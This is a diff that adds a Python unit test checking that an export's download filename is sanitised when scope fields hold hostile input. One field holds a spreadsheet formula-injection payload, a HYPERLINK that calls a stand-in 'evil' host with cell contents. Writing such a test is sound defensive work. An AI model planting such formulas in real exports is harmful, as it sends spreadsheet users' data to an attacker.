@@ -410,3 +410,12 @@ def test_a_time_limit_is_named_however_the_writer_wrapped_it():
             raise exports.ExportError("the CSV export failed, and left no file") from stop
     except exports.ExportError as wrapped:
         assert "longer than the export time limit" in export_jobs._reason(wrapped)
+
+
+def test_a_hostile_name_cannot_shape_the_download_name():
+    e = Export(
+        format="csv",
+        at=dt.datetime(2026, 11, 1, tzinfo=dt.UTC),
+        scope={"cluster": '=HYPERLINK("http://evil/?"&A1,"x")', "namespace": "a\nb"},
+    )
+    assert e.filename == "welkin-report-_HYPERLINK__http___evil____A1__x__-a_b-20261101T000000Z.csv"
